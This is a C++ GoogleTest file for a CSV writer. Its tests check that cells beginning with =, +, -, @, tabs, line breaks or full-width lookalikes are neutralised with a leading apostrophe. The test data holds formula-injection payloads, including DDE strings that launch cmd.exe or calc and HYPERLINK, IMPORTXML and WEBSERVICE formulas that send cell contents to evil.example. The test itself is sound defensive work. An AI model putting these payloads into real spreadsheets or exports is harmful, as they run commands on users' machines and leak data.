#include "base/csv.hpp"

#include <gtest/gtest.h>

#include <vector>

namespace referral {
namespace {

/// RFC 4180, strictly.
std::vector<std::vector<std::string>> parse(std::string_view bytes) {
    std::vector<std::vector<std::string>> rows{{}};
    for (std::size_t i = 0; i < bytes.size();) {
        EXPECT_EQ(bytes[i], '"');
        std::string field;
        for (++i; i < bytes.size(); ++i) {
            if (bytes[i] != '"')
                field += bytes[i];
            else if (bytes.substr(i).starts_with("\"\""))
                field += bytes[i++];
            else
                break;
        }
        rows.back().push_back(std::move(field));
        ++i;
        if (bytes.substr(i).starts_with(",")) {
            ++i;
        } else {
            EXPECT_TRUE(bytes.substr(i).starts_with("\r\n"));
            i += 2;
            rows.emplace_back();
        }
    }
    rows.pop_back();
    return rows;
}

constexpr std::string_view formulas[] = {
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")",
    "=IMPORTDATA(\"https://evil.example\")",
    "=IMAGE(\"https://evil.example/a.png\")",
    "=WEBSERVICE(\"https://evil.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "=\"\"",
    "==1",
    "= 1",
    "=@SUM(1)",
    "=-1",
    "=A1",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=1,2",
    "=1\r\n=2",
    "=\"a\",\"b\"",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+A1",
    "+\"x\"",
    "+491511234567",
    "++1",
    "+-1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-A1",
    "-1",
    "-12.50",
    "--1",
    "-\"x\"",
    "-=1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "@",
    "@=1",
    "@\"",
    "\t=1+1",
    "\tx",
    "\t",
    "\r=1+1",
    "\rx",
    "\r\n=1",
    "\n=1+1",
    "\nx",
    "\xef\xbc\x9d"
    "1+1",
    "\xef\xbc\x8b"
    "1+1",
    "\xef\xbc\x8d"
    "1+1",
    "\xef\xbc\xa0"
    "SUM(1)",
    "=",
    "+",
    "-",
};

TEST(Csv, NeutralisesEveryFormula) {  // S-12
    static_assert(std::size(formulas) >= 50);
    Csv csv;
    for (const std::string_view formula : formulas) {
        csv.text(formula);
        csv.text("beside");
        csv.end_row();
    }

    const auto rows = parse(csv.bytes());

    ASSERT_EQ(rows.size(), std::size(formulas));
    for (std::size_t i = 0; i < rows.size(); ++i)
        EXPECT_EQ(rows[i], (std::vector{"'" + std::string(formulas[i]), std::string("beside")}));
}

TEST(Csv, KeepsAllOtherTextsAsTheyAre) {
    const std::vector<std::string> texts{"",    "plain", "a,b", "a\"b\"\"", "a\r\nb",
                                         "é ü", " =1+1", "'=1", "1-1=0",    "a@b.example"};
    Csv csv;
    for (const std::string& text : texts) csv.text(text);
    csv.nothing();
    csv.end_row();

    auto expected = texts;
    expected.emplace_back();
    EXPECT_EQ(parse(csv.take()), (std::vector<std::vector<std::string>>{expected}));
}

TEST(Csv, TakesNumbersForNumbersOnly) {
    Csv csv;
    for (const std::string_view decimal : {"0", "-12.50", "1234567890.123"}) csv.number(decimal);
    for (const std::string_view other : {"-1+1", "-", "-.5", "1.", "+1", "1e3", ""})
        csv.number(other);
    csv.end_row();

    EXPECT_EQ(
        csv.bytes(),
        "\"0\",\"-12.50\",\"1234567890.123\",\"'-1+1\",\"'-\",\"'-.5\",\"1.\",\"'+1\",\"1e3\","
        "\"\"\r\n");
}

}  // namespace
}  // namespace referral
